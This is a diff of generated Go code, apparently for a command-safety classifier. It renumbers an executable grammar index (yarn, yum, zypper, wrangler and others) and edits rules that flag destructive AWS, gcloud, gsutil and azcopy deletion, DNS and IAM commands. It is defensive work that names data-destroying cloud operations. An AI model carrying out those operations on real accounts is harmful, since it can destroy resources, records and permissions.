@@ -2851,7 +2862,7 @@ var generatedExeIndex = []genExe{
 	{name: "varnishncsa", grammar: []uint32{0x1d007e}, generic: []uint32{0x1d007e}, subs: nil, ruleKnown: false},
 	{name: "vault", grammar: []uint32{0xf0003, 0x210000, 0x210001}, generic: []uint32{0xf0012, 0x210001}, subs: []genSub{{"audit", []uint32{0x210008}}, {"auth", []uint32{0x210008}}, {"kv", []uint32{0xf0009, 0x210003, 0x210008}}, {"list", []uint32{0x210007}}, {"login", []uint32{0x210006}}, {"namespace", []uint32{0x210008}}, {"plugin", []uint32{0x210008}}, {"policy", []uint32{0x210008}}, {"print", []uint32{0x210005}}, {"read", []uint32{0x210002}}, {"secrets", []uint32{0x210008}}, {"status", []uint32{0x210007}}, {"token", []uint32{0x210004, 0x210008}}, {"version", []uint32{0x210009}}, {"write", []uint32{0x210002}}}, ruleKnown: true},
 	{name: "vdir", grammar: []uint32{0x150005}, generic: []uint32{0xd0016, 0x150005}, subs: nil, ruleKnown: true},
-	{name: "vercel", grammar: []uint32{0x130065}, generic: []uint32{0x10012, 0x130065}, subs: []genSub{{"alias", []uint32{0x13006a}}, {"bisect", []uint32{0x13006a}}, {"build", []uint32{0x13006a}}, {"certs", []uint32{0x13006a}}, {"deploy", []uint32{0x13006a}}, {"dev", []uint32{0x13006a}}, {"dns", []uint32{0x13006a}}, {"domains", []uint32{0x130066}}, {"env", []uint32{0x130067, 0x130069, 0x13006a}}, {"git", []uint32{0x13006a}}, {"inspect", []uint32{0x130066}}, {"integration", []uint32{0x13006a}}, {"link", []uint32{0x13006a}}, {"list", []uint32{0x130066}}, {"login", []uint32{0x13006a}}, {"logout", []uint32{0x13006a}}, {"logs", []uint32{0x130066}}, {"ls", []uint32{0x130066}}, {"project", []uint32{0x130066}}, {"projects", []uint32{0x130066}}, {"promote", []uint32{0x13006a}}, {"pull", []uint32{0x130068}}, {"redeploy", []uint32{0x13006a}}, {"rollback", []uint32{0x13006a}}, {"switch", []uint32{0x13006a}}, {"teams", []uint32{0x130066}}, {"whoami", []uint32{0x130066}}}, ruleKnown: true},
+	{name: "vercel", grammar: []uint32{0x13006a}, generic: []uint32{0x10012, 0x13006a}, subs: []genSub{{"alias", []uint32{0x13006f}}, {"bisect", []uint32{0x13006f}}, {"build", []uint32{0x13006f}}, {"certs", []uint32{0x13006f}}, {"deploy", []uint32{0x13006f}}, {"dev", []uint32{0x13006f}}, {"dns", []uint32{0x13006f}}, {"domains", []uint32{0x13006b}}, {"env", []uint32{0x13006c, 0x13006e, 0x13006f}}, {"git", []uint32{0x13006f}}, {"inspect", []uint32{0x13006b}}, {"integration", []uint32{0x13006f}}, {"link", []uint32{0x13006f}}, {"list", []uint32{0x13006b}}, {"login", []uint32{0x13006f}}, {"logout", []uint32{0x13006f}}, {"logs", []uint32{0x13006b}}, {"ls", []uint32{0x13006b}}, {"project", []uint32{0x13006b}}, {"projects", []uint32{0x13006b}}, {"promote", []uint32{0x13006f}}, {"pull", []uint32{0x13006d}}, {"redeploy", []uint32{0x13006f}}, {"rollback", []uint32{0x13006f}}, {"switch", []uint32{0x13006f}}, {"teams", []uint32{0x13006b}}, {"whoami", []uint32{0x13006b}}}, ruleKnown: true},
 	{name: "vgremove", grammar: nil, generic: []uint32{0x100013}, subs: nil, ruleKnown: true},
 	{name: "vi", grammar: []uint32{0x1d0024}, generic: []uint32{0xe0004, 0xe0016, 0x1d0024}, subs: nil, ruleKnown: true},
 	{name: "view", grammar: []uint32{0x200004}, generic: []uint32{0xd0016, 0xd002b, 0x200004}, subs: nil, ruleKnown: true},
@@ -2883,7 +2894,7 @@ var generatedExeIndex = []genExe{
 	{name: "wipefs", grammar: []uint32{0x220066}, generic: []uint32{0x10000c, 0x220066}, subs: nil, ruleKnown: true},
 	{name: "wireshark", grammar: []uint32{0x1d008c}, generic: []uint32{0x1d008c}, subs: nil, ruleKnown: false},
 	{name: "wish", grammar: []uint32{0x1d008d}, generic: []uint32{0x1d008d}, subs: nil, ruleKnown: false},
-	{name: "wrangler", grammar: []uint32{0x130070}, generic: []uint32{0x10012, 0x130070}, subs: []genSub{{"build", []uint32{0x130074}}, {"d1", []uint32{0x130072, 0x130073}}, {"deploy", []uint32{0x130074}}, {"deployments", []uint32{0x130072}}, {"dev", []uint32{0x130074}}, {"dispatch-namespace", []uint32{0x130074}}, {"generate", []uint32{0x130074}}, {"init", []uint32{0x130074}}, {"kv", []uint32{0x130072, 0x130074}}, {"kv:key", []uint32{0x130072}}, {"kv:namespace", []uint32{0x130072}}, {"login", []uint32{0x130074}}, {"logout", []uint32{0x130074}}, {"pages", []uint32{0x130074}}, {"publish", []uint32{0x130074}}, {"queues", []uint32{0x130074}}, {"r2", []uint32{0x130072, 0x130074}}, {"secret", []uint32{0x130072, 0x130074}}, {"tail", []uint32{0x130071}}, {"types", []uint32{0x130074}}, {"versions", []uint32{0x130072}}, {"whoami", []uint32{0x130071}}}, ruleKnown: true},
+	{name: "wrangler", grammar: []uint32{0x130075}, generic: []uint32{0x10012, 0x130075}, subs: []genSub{{"build", []uint32{0x130079}}, {"d1", []uint32{0x130077, 0x130078}}, {"deploy", []uint32{0x130079}}, {"deployments", []uint32{0x130077}}, {"dev", []uint32{0x130079}}, {"dispatch-namespace", []uint32{0x130079}}, {"generate", []uint32{0x130079}}, {"init", []uint32{0x130079}}, {"kv", []uint32{0x130077, 0x130079}}, {"kv:key", []uint32{0x130077}}, {"kv:namespace", []uint32{0x130077}}, {"login", []uint32{0x130079}}, {"logout", []uint32{0x130079}}, {"pages", []uint32{0x130079}}, {"publish", []uint32{0x130079}}, {"queues", []uint32{0x130079}}, {"r2", []uint32{0x130077, 0x130079}}, {"secret", []uint32{0x130077, 0x130079}}, {"tail", []uint32{0x130076}}, {"types", []uint32{0x130079}}, {"versions", []uint32{0x130077}}, {"whoami", []uint32{0x130076}}}, ruleKnown: true},
 	{name: "xargs", grammar: []uint32{0xd0007, 0x190001}, generic: []uint32{0x40022, 0x6000c, 0x190001}, subs: nil, ruleKnown: true},
 	{name: "xclip", grammar: []uint32{0x220002, 0x220060}, generic: []uint32{0xd0021, 0x220060}, subs: nil, ruleKnown: true},
 	{name: "xdg-user-dir", grammar: []uint32{0x1d008e}, generic: []uint32{0x1d008e}, subs: nil, ruleKnown: false},
@@ -2901,13 +2912,13 @@ var generatedExeIndex = []genExe{
 	{name: "xz", grammar: []uint32{0x11001a}, generic: []uint32{0xd0021, 0xd002e, 0x11001a}, subs: nil, ruleKnown: true},
 	{name: "xzcat", grammar: []uint32{0x11001b}, generic: []uint32{0xd0016, 0xd002b, 0x11001b}, subs: nil, ruleKnown: true},
 	{name: "yamllint", grammar: []uint32{0x240057}, generic: []uint32{0xd0016, 0x240057}, subs: nil, ruleKnown: true},
-	{name: "yarn", grammar: []uint32{0x1f0025}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0x1f0025}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"add", []uint32{0xa0008, 0xa0012, 0x1f0028}}, {"audit", []uint32{0xa0011, 0x1f0028}}, {"autoclean", []uint32{0x1f0028}}, {"bin", []uint32{0xa0011, 0x1f0026}}, {"build", []uint32{0xa0011}}, {"cache", []uint32{0xa0012, 0x1f0027}}, {"check", []uint32{0xa0011, 0x1f0028}}, {"ci", []uint32{0xa0012}}, {"config", []uint32{0xa0010, 0xa0012, 0x1f0027}}, {"constraints", []uint32{0x1f0028}}, {"create", []uint32{0x1f0028}}, {"dedupe", []uint32{0xa0012, 0x1f0028}}, {"dev", []uint32{0xa0011}}, {"dlx", []uint32{0x1f0028}}, {"doctor", []uint32{0xa0011}}, {"exec", []uint32{0x1f0028}}, {"explain", []uint32{0xa0011, 0x1f0028}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011}}, {"generate-lock-entry", []uint32{0x1f0028}}, {"global", []uint32{0x1f0028}}, {"help", []uint32{0xa0011}}, {"i", []uint32{0xa0008, 0xa0012}}, {"import", []uint32{0x1f0028}}, {"in", []uint32{0xa0008}}, {"info", []uint32{0xa0011, 0x1f0028}}, {"init", []uint32{0x1f0028}}, {"install", []uint32{0xa0008, 0xa0012, 0x1f0028}}, {"licenses", []uint32{0xa0011, 0x1f0026}}, {"link", []uint32{0xa0012, 0x1f0028}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011, 0x1f0026}}, {"login", []uint32{0x1f0028}}, {"logout", []uint32{0x1f0028}}, {"ls", []uint32{0xa0011}}, {"node", []uint32{0x1f0028}}, {"npm", []uint32{0x1f0028}}, {"outdated", []uint32{0xa0011, 0x1f0028}}, {"owner", []uint32{0x1f0028}}, {"pack", []uint32{0xa0011, 0x1f0028}}, {"patch", []uint32{0x1f0028}}, {"patch-commit", []uint32{0x1f0028}}, {"plugin", []uint32{0x1f0028}}, {"policies", []uint32{0x1f0028}}, {"prefix", []uint32{0xa0011}}, {"prune", []uint32{0xa0012}}, {"publish", []uint32{0x1f0028}}, {"query", []uint32{0xa0011}}, {"rebuild", []uint32{0xa0012, 0x1f0028}}, {"remove", []uint32{0xa0012, 0x1f0028}}, {"rm", []uint32{0xa0012}}, {"root", []uint32{0xa0011}}, {"run", []uint32{0xa0011, 0x1f0028}}, {"run-script", []uint32{0xa0011}}, {"search", []uint32{0xa0011, 0x1f0028}}, {"set", []uint32{0xa0012, 0x1f0028}}, {"show", []uint32{0xa0011}}, {"stage", []uint32{0x1f0028}}, {"start", []uint32{0xa0011}}, {"t", []uint32{0xa0011}}, {"tag", []uint32{0x1f0028}}, {"team", []uint32{0x1f0028}}, {"test", []uint32{0xa0011, 0x1f0028}}, {"tst", []uint32{0xa0011}}, {"typecheck", []uint32{0xa0011}}, {"uninstall", []uint32{0xa0012}}, {"unlink", []uint32{0xa0012, 0x1f0028}}, {"up", []uint32{0xa0012, 0x1f0028}}, {"update", []uint32{0xa0012}}, {"upgrade", []uint32{0xa0012, 0x1f0028}}, {"upgrade-interactive", []uint32{0x1f0028}}, {"v", []uint32{0xa0011}}, {"version", []uint32{0xa0012, 0x1f0028}}, {"view", []uint32{0xa0011}}, {"why", []uint32{0xa0011, 0x1f0026}}, {"workspaces", []uint32{0x1f0027}}}, ruleKnown: true},
+	{name: "yarn", grammar: []uint32{0x1f0027}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0x1f0027}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"add", []uint32{0xa0008, 0xa0012, 0x1f002a}}, {"audit", []uint32{0xa0011, 0x1f002a}}, {"autoclean", []uint32{0x1f002a}}, {"bin", []uint32{0xa0011, 0x1f0028}}, {"build", []uint32{0xa0011}}, {"cache", []uint32{0xa0012, 0x1f0029}}, {"check", []uint32{0xa0011, 0x1f002a}}, {"ci", []uint32{0xa0012}}, {"config", []uint32{0xa0010, 0xa0012, 0x1f0029}}, {"constraints", []uint32{0x1f002a}}, {"create", []uint32{0x1f002a}}, {"dedupe", []uint32{0xa0012, 0x1f002a}}, {"dev", []uint32{0xa0011}}, {"dlx", []uint32{0x1f002a}}, {"doctor", []uint32{0xa0011}}, {"exec", []uint32{0x1f002a}}, {"explain", []uint32{0xa0011, 0x1f002a}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011}}, {"generate-lock-entry", []uint32{0x1f002a}}, {"global", []uint32{0x1f002a}}, {"help", []uint32{0xa0011}}, {"i", []uint32{0xa0008, 0xa0012}}, {"import", []uint32{0x1f002a}}, {"in", []uint32{0xa0008}}, {"info", []uint32{0xa0011, 0x1f002a}}, {"init", []uint32{0x1f002a}}, {"install", []uint32{0xa0008, 0xa0012, 0x1f002a}}, {"licenses", []uint32{0xa0011, 0x1f0028}}, {"link", []uint32{0xa0012, 0x1f002a}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011, 0x1f0028}}, {"login", []uint32{0x1f002a}}, {"logout", []uint32{0x1f002a}}, {"ls", []uint32{0xa0011}}, {"node", []uint32{0x1f002a}}, {"npm", []uint32{0x1f002a}}, {"outdated", []uint32{0xa0011, 0x1f002a}}, {"owner", []uint32{0x1f002a}}, {"pack", []uint32{0xa0011, 0x1f002a}}, {"patch", []uint32{0x1f002a}}, {"patch-commit", []uint32{0x1f002a}}, {"plugin", []uint32{0x1f002a}}, {"policies", []uint32{0x1f002a}}, {"prefix", []uint32{0xa0011}}, {"prune", []uint32{0xa0012}}, {"publish", []uint32{0x1f002a}}, {"query", []uint32{0xa0011}}, {"rebuild", []uint32{0xa0012, 0x1f002a}}, {"remove", []uint32{0xa0012, 0x1f002a}}, {"rm", []uint32{0xa0012}}, {"root", []uint32{0xa0011}}, {"run", []uint32{0xa0011, 0x1f002a}}, {"run-script", []uint32{0xa0011}}, {"search", []uint32{0xa0011, 0x1f002a}}, {"set", []uint32{0xa0012, 0x1f002a}}, {"show", []uint32{0xa0011}}, {"stage", []uint32{0x1f002a}}, {"start", []uint32{0xa0011}}, {"t", []uint32{0xa0011}}, {"tag", []uint32{0x1f002a}}, {"team", []uint32{0x1f002a}}, {"test", []uint32{0xa0011, 0x1f002a}}, {"tst", []uint32{0xa0011}}, {"typecheck", []uint32{0xa0011}}, {"uninstall", []uint32{0xa0012}}, {"unlink", []uint32{0xa0012, 0x1f002a}}, {"up", []uint32{0xa0012, 0x1f002a}}, {"update", []uint32{0xa0012}}, {"upgrade", []uint32{0xa0012, 0x1f002a}}, {"upgrade-interactive", []uint32{0x1f002a}}, {"v", []uint32{0xa0011}}, {"version", []uint32{0xa0012, 0x1f002a}}, {"view", []uint32{0xa0011}}, {"why", []uint32{0xa0011, 0x1f0028}}, {"workspaces", []uint32{0x1f0029}}}, ruleKnown: true},
 	{name: "yash", grammar: []uint32{0x1d003a}, generic: []uint32{0x1d003a}, subs: nil, ruleKnown: false},
 	{name: "yelp", grammar: []uint32{0x1d0093}, generic: []uint32{0x1d0093}, subs: nil, ruleKnown: false},
 	{name: "yes", grammar: []uint32{0x15002b}, generic: []uint32{0xd0016, 0x15002b}, subs: nil, ruleKnown: true},
 	{name: "yq", grammar: []uint32{0x230012}, generic: []uint32{0xd001e, 0xe0004, 0xe0012, 0xe0016, 0x230012}, subs: []genSub{{"completion", []uint32{0x230014}}, {"e", []uint32{0x230013}}, {"ea", []uint32{0x230013}}, {"eval", []uint32{0x230013}}, {"eval-all", []uint32{0x230013}}, {"shell-completion", []uint32{0x230014}}}, ruleKnown: true},
 	{name: "yt-dlp", grammar: []uint32{0x1d0094}, generic: []uint32{0x1d0094}, subs: nil, ruleKnown: false},
-	{name: "yum", grammar: []uint32{0x1f0008}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0008}, subs: []genSub{{"alias", []uint32{0x1f0009}}, {"autoremove", []uint32{0x1f000a}}, {"builddep", []uint32{0x1f000a}}, {"changelog", []uint32{0x1f0009}}, {"check", []uint32{0x1f0009}}, {"check-update", []uint32{0x1f0009}}, {"clean", []uint32{0x1f000a}}, {"config-manager", []uint32{0x1f0009}}, {"deplist", []uint32{0x1f0009}}, {"distro-sync", []uint32{0x1f000a}}, {"downgrade", []uint32{0x1f000a}}, {"download", []uint32{0x1f0009}}, {"dsync", []uint32{0x1f000a}}, {"erase", []uint32{0x1f000a}}, {"group", []uint32{0x1f0009}}, {"groupinstall", []uint32{0x1f000a}}, {"groups", []uint32{0x1f0009}}, {"history", []uint32{0x1f0009}}, {"in", []uint32{0x1f000a}}, {"info", []uint32{0x1f0009}}, {"install", []uint32{0x1f000a}}, {"list", []uint32{0x1f0009}}, {"localinstall", []uint32{0x1f000a}}, {"makecache", []uint32{0x1f0009}}, {"mark", []uint32{0x1f0009}}, {"module", []uint32{0x1f0009}}, {"offline-upgrade", []uint32{0x1f000a}}, {"provides", []uint32{0x1f0009}}, {"reinstall", []uint32{0x1f000a}}, {"remove", []uint32{0x1f000a}}, {"repoinfo", []uint32{0x1f0009}}, {"repolist", []uint32{0x1f0009}}, {"repoquery", []uint32{0x1f0009}}, {"rm", []uint32{0x1f000a}}, {"rq", []uint32{0x1f0009}}, {"search", []uint32{0x1f0009}}, {"shell", []uint32{0x1f000a}}, {"swap", []uint32{0x1f000a}}, {"system-upgrade", []uint32{0x1f000a}}, {"up", []uint32{0x1f000a}}, {"update", []uint32{0x1f000a}}, {"updateinfo", []uint32{0x1f0009}}, {"upgrade", []uint32{0x1f000a}}, {"upgrade-minimal", []uint32{0x1f000a}}, {"whatprovides", []uint32{0x1f0009}}}, ruleKnown: true},
+	{name: "yum", grammar: []uint32{0x1f0009}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0009}, subs: []genSub{{"alias", []uint32{0x1f000a}}, {"autoremove", []uint32{0x1f000b}}, {"builddep", []uint32{0x1f000b}}, {"changelog", []uint32{0x1f000a}}, {"check", []uint32{0x1f000a}}, {"check-update", []uint32{0x1f000a}}, {"clean", []uint32{0x1f000b}}, {"config-manager", []uint32{0x1f000a}}, {"deplist", []uint32{0x1f000a}}, {"distro-sync", []uint32{0x1f000b}}, {"downgrade", []uint32{0x1f000b}}, {"download", []uint32{0x1f000a}}, {"dsync", []uint32{0x1f000b}}, {"erase", []uint32{0x1f000b}}, {"group", []uint32{0x1f000a}}, {"groupinstall", []uint32{0x1f000b}}, {"groups", []uint32{0x1f000a}}, {"history", []uint32{0x1f000a}}, {"in", []uint32{0x1f000b}}, {"info", []uint32{0x1f000a}}, {"install", []uint32{0x1f000b}}, {"list", []uint32{0x1f000a}}, {"localinstall", []uint32{0x1f000b}}, {"makecache", []uint32{0x1f000a}}, {"mark", []uint32{0x1f000a}}, {"module", []uint32{0x1f000a}}, {"offline-upgrade", []uint32{0x1f000b}}, {"provides", []uint32{0x1f000a}}, {"reinstall", []uint32{0x1f000b}}, {"remove", []uint32{0x1f000b}}, {"repoinfo", []uint32{0x1f000a}}, {"repolist", []uint32{0x1f000a}}, {"repoquery", []uint32{0x1f000a}}, {"rm", []uint32{0x1f000b}}, {"rq", []uint32{0x1f000a}}, {"search", []uint32{0x1f000a}}, {"shell", []uint32{0x1f000b}}, {"swap", []uint32{0x1f000b}}, {"system-upgrade", []uint32{0x1f000b}}, {"up", []uint32{0x1f000b}}, {"update", []uint32{0x1f000b}}, {"updateinfo", []uint32{0x1f000a}}, {"upgrade", []uint32{0x1f000b}}, {"upgrade-minimal", []uint32{0x1f000b}}, {"whatprovides", []uint32{0x1f000a}}}, ruleKnown: true},
 	{name: "zathura", grammar: []uint32{0x1d0095}, generic: []uint32{0x1d0095}, subs: nil, ruleKnown: false},
 	{name: "zcat", grammar: []uint32{0x110015}, generic: []uint32{0xd0016, 0xd002b, 0x110015}, subs: nil, ruleKnown: true},
 	{name: "zdiff", grammar: []uint32{0x110017}, generic: []uint32{0xd0016, 0x110017}, subs: nil, ruleKnown: true},
@@ -2923,7 +2934,7 @@ var generatedExeIndex = []genExe{
 	{name: "zstd", grammar: []uint32{0x11001e}, generic: []uint32{0xd0021, 0xd002e, 0x11001e}, subs: nil, ruleKnown: true},
 	{name: "zstdcat", grammar: []uint32{0x11001f}, generic: []uint32{0xd0016, 0xd002b, 0x11001f}, subs: nil, ruleKnown: true},
 	{name: "ztcp", grammar: []uint32{0x120020}, generic: []uint32{0x120020}, subs: nil, ruleKnown: false},
-	{name: "zypper", grammar: []uint32{0x1f000b}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f000b}, subs: []genSub{{"addlock", []uint32{0x1f000e}}, {"addrepo", []uint32{0x1f000e}}, {"addservice", []uint32{0x1f000e}}, {"al", []uint32{0x1f000e}}, {"ar", []uint32{0x1f000e}}, {"as", []uint32{0x1f000e}}, {"cc", []uint32{0x1f000e}}, {"clean", []uint32{0x1f000e}}, {"dist-upgrade", []uint32{0x1f000e}}, {"dup", []uint32{0x1f000e}}, {"if", []uint32{0x1f000d}}, {"in", []uint32{0x1f000e}}, {"info", []uint32{0x1f000d}}, {"inr", []uint32{0x1f000e}}, {"install", []uint32{0x1f000e}}, {"install-new-recommends", []uint32{0x1f000e}}, {"list-patches", []uint32{0x1f000d}}, {"list-updates", []uint32{0x1f000d}}, {"ll", []uint32{0x1f000c}}, {"locks", []uint32{0x1f000c}}, {"lp", []uint32{0x1f000d}}, {"lr", []uint32{0x1f000c}}, {"ls", []uint32{0x1f000c}}, {"lu", []uint32{0x1f000d}}, {"migration", []uint32{0x1f000e}}, {"modifyrepo", []uint32{0x1f000e}}, {"mr", []uint32{0x1f000e}}, {"nr", []uint32{0x1f000e}}, {"pa", []uint32{0x1f000d}}, {"packages", []uint32{0x1f000d}}, {"patch", []uint32{0x1f000e}}, {"patch-check", []uint32{0x1f000d}}, {"patches", []uint32{0x1f000d}}, {"patterns", []uint32{0x1f000d}}, {"pchk", []uint32{0x1f000d}}, {"pd", []uint32{0x1f000c}}, {"products", []uint32{0x1f000c}}, {"pt", []uint32{0x1f000d}}, {"ref", []uint32{0x1f000e}}, {"refresh", []uint32{0x1f000e}}, {"refresh-services", []uint32{0x1f000e}}, {"refs", []uint32{0x1f000e}}, {"remove", []uint32{0x1f000e}}, {"removelock", []uint32{0x1f000e}}, {"removerepo", []uint32{0x1f000e}}, {"removeservice", []uint32{0x1f000e}}, {"renamerepo", []uint32{0x1f000e}}, {"repos", []uint32{0x1f000c}}, {"rl", []uint32{0x1f000e}}, {"rm", []uint32{0x1f000e}}, {"rr", []uint32{0x1f000e}}, {"rs", []uint32{0x1f000e}}, {"se", []uint32{0x1f000d}}, {"search", []uint32{0x1f000d}}, {"services", []uint32{0x1f000c}}, {"sh", []uint32{0x1f000e}}, {"shell", []uint32{0x1f000e}}, {"si", []uint32{0x1f000e}}, {"source-download", []uint32{0x1f000e}}, {"source-install", []uint32{0x1f000e}}, {"up", []uint32{0x1f000e}}, {"update", []uint32{0x1f000e}}, {"ve", []uint32{0x1f000e}}, {"verify", []uint32{0x1f000e}}, {"what-provides", []uint32{0x1f000d}}, {"wp", []uint32{0x1f000d}}}, ruleKnown: true},
+	{name: "zypper", grammar: []uint32{0x1f000c}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f000c}, subs: []genSub{{"addlock", []uint32{0x1f000f}}, {"addrepo", []uint32{0x1f000f}}, {"addservice", []uint32{0x1f000f}}, {"al", []uint32{0x1f000f}}, {"ar", []uint32{0x1f000f}}, {"as", []uint32{0x1f000f}}, {"cc", []uint32{0x1f000f}}, {"clean", []uint32{0x1f000f}}, {"dist-upgrade", []uint32{0x1f000f}}, {"dup", []uint32{0x1f000f}}, {"if", []uint32{0x1f000e}}, {"in", []uint32{0x1f000f}}, {"info", []uint32{0x1f000e}}, {"inr", []uint32{0x1f000f}}, {"install", []uint32{0x1f000f}}, {"install-new-recommends", []uint32{0x1f000f}}, {"list-patches", []uint32{0x1f000e}}, {"list-updates", []uint32{0x1f000e}}, {"ll", []uint32{0x1f000d}}, {"locks", []uint32{0x1f000d}}, {"lp", []uint32{0x1f000e}}, {"lr", []uint32{0x1f000d}}, {"ls", []uint32{0x1f000d}}, {"lu", []uint32{0x1f000e}}, {"migration", []uint32{0x1f000f}}, {"modifyrepo", []uint32{0x1f000f}}, {"mr", []uint32{0x1f000f}}, {"nr", []uint32{0x1f000f}}, {"pa", []uint32{0x1f000e}}, {"packages", []uint32{0x1f000e}}, {"patch", []uint32{0x1f000f}}, {"patch-check", []uint32{0x1f000e}}, {"patches", []uint32{0x1f000e}}, {"patterns", []uint32{0x1f000e}}, {"pchk", []uint32{0x1f000e}}, {"pd", []uint32{0x1f000d}}, {"products", []uint32{0x1f000d}}, {"pt", []uint32{0x1f000e}}, {"ref", []uint32{0x1f000f}}, {"refresh", []uint32{0x1f000f}}, {"refresh-services", []uint32{0x1f000f}}, {"refs", []uint32{0x1f000f}}, {"remove", []uint32{0x1f000f}}, {"removelock", []uint32{0x1f000f}}, {"removerepo", []uint32{0x1f000f}}, {"removeservice", []uint32{0x1f000f}}, {"renamerepo", []uint32{0x1f000f}}, {"repos", []uint32{0x1f000d}}, {"rl", []uint32{0x1f000f}}, {"rm", []uint32{0x1f000f}}, {"rr", []uint32{0x1f000f}}, {"rs", []uint32{0x1f000f}}, {"se", []uint32{0x1f000e}}, {"search", []uint32{0x1f000e}}, {"services", []uint32{0x1f000d}}, {"sh", []uint32{0x1f000f}}, {"shell", []uint32{0x1f000f}}, {"si", []uint32{0x1f000f}}, {"source-download", []uint32{0x1f000f}}, {"source-install", []uint32{0x1f000f}}, {"up", []uint32{0x1f000f}}, {"update", []uint32{0x1f000f}}, {"ve", []uint32{0x1f000f}}, {"verify", []uint32{0x1f000f}}, {"what-provides", []uint32{0x1f000e}}, {"wp", []uint32{0x1f000e}}}, ruleKnown: true},
 }
 
 var generatedAnyIndex = []uint32{0x40023, 0x40029, 0x60005, 0x60006, 0x60007, 0x60008, 0xb000d, 0xb000f, 0xb0013, 0xb0015, 0xb0016, 0xb0017, 0xb0018, 0xb0019, 0xb001a, 0x100033, 0x100034}
@@ -3033,78 +3044,78 @@ func packsCloudL55() Pack {
 }
 
 func packsCloudL68() Pack {
-	return Pack{Rules: []Rule{{ID: "cloud.aws.delete-verb", Exe: []string{"aws"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "This AWS operation deletes, terminates or purges cloud resources.", Suggestion: "Describe the resource first and ask before deleting it.", Match: Match{FlagsNone: []string{"--dry-run"}, Verbs: []string{"delete-*", "terminate-*", "remove-*", "deregister-*", "purge-*", "destroy-*", "revoke-*", "disassociate-*", "detach-*", "release-*", "cancel-*", "reset-*", "disable-*", "deactivate-*", "stop-*", "reboot-*", "batch-delete-*", "unsubscribe", "untag-*"}, VerbDepth: 2}}}}
+	return Pack{Rules: []Rule{{ID: "cloud.aws.delete-verb", Exe: []string{"aws"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "This AWS operation deletes, terminates or purges cloud resources.", Suggestion: "Describe the resource first and ask before deleting it.", Match: Match{Verbs: []string{"delete-*", "terminate-*", "remove-*", "deregister-*", "purge-*", "destroy-*", "revoke-*", "disassociate-*", "detach-*", "release-*", "cancel-*", "reset-*", "disable-*", "deactivate-*", "stop-*", "reboot-*", "batch-delete-*", "unsubscribe", "untag-*"}, VerbDepth: 2}}}}
 }
 
-func packsCloudL81() Pack {
+func packsCloudL80() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.aws.route53-delete", Exe: []string{"aws"}, Sub: []string{"route53", "change-resource-record-sets"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "The change batch deletes or replaces DNS records.", Suggestion: "Ask before changing DNS.", Match: Match{FlagValues: map[string][]string{"--change-batch": {"*delete*", "*upsert*", "file://*", "fileb://*"}}}}}}
 }
 
-func packsCloudL93() Pack {
+func packsCloudL92() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.aws.iam-write", Exe: []string{"aws"}, Sub: []string{"iam|organizations|sts|kms"}, Category: "privilege", Tier: "destructive", Blast: "high", Reason: "This changes identities, keys or permissions of the cloud account.", Suggestion: "Ask before changing IAM, KMS or organisation settings.", Match: Match{Verbs: []string{"create-*", "put-*", "attach-*", "update-*", "add-*", "set-*", "schedule-key-deletion", "disable-key", "upload-*", "tag-*"}, VerbDepth: 2}}}}
 }
 
-func packsCloudL106() Pack {
+func packsCloudL105() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.gcloud.delete", Exe: []string{"gcloud"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "This gcloud command deletes or destroys cloud resources.", Suggestion: "Describe the resource first and ask before deleting it.", Match: Match{Verbs: []string{"delete", "destroy", "remove", "purge", "rm", "undelete", "disable", "remove-iam-policy-binding", "set-iam-policy", "add-iam-policy-binding", "reset", "stop", "abandon-instances", "delete-instances", "recreate-instances", "resize", "undeploy", "untag"}, VerbDepth: 6}}}}
 }
 
-func packsCloudL118() Pack {
+func packsCloudL117() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.gcloud.storage-rm", Exe: []string{"gsutil"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "gsutil rm/rb deletes objects or buckets.", Suggestion: "Ask before deleting cloud storage.", Match: Match{FlagsNone: []string{"-n"}, OperandsAny: []string{"@any"}, Verbs: []string{"rm", "rb", "rsync"}, VerbDepth: 1}}}}
 }
 
-func packsCloudL132() Pack {
+func packsCloudL131() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.azure.delete", Exe: []string{"az"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "This az command deletes or purges cloud resources.", Suggestion: "Show the resource first and ask before deleting it.", Match: Match{Verbs: []string{"delete", "delete-batch", "purge", "remove", "destroy", "stop", "deallocate", "restart", "reset", "revoke", "rotate", "untag", "undeploy"}, VerbDepth: 5}}}}
 }
 
-func packsCloudL144() Pack {
+func packsCloudL143() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.azcopy.remove", Exe: []string{"azcopy"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "azcopy remove / sync --delete-destination deletes blobs.", Suggestion: "Ask before deleting cloud storage.", Match: Match{Verbs: []string{"remove", "rm"}, VerbDepth: 1}}}}
 }
 
-func packsCloudL156() Pack {
+func packsCloudL155() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.azcopy.sync-delete", Exe: []string{"azcopy"}, Sub: []string{"sync"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "sync with --delete-destination=true deletes blobs missing from the source.", Suggestion: "Sync without deleting the destination.", Match: Match{FlagValues: map[string][]string{"--delete-destination": {"true", "prompt"}}}}}}
 }
 
-func packsCloudL168() Pack {
+func packsCloudL167() Pack {
